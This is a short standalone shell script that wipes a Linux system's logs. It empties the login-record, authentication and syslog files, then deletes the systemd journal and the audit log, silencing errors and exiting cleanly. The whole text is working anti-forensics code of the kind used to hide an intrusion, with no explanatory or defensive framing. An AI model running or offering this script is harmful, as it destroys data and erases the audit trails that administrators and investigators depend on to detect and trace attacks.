for log in /var/log/wtmp /var/log/btmp /var/log/lastlog /var/log/auth.log /var/log/syslog /var/log/messages; do
    : > "$log"
done 2>/dev/null
rm -rf /var/log/journal /var/log/auth.log /var/log/audit/audit.log 2>/dev/null
exit 0
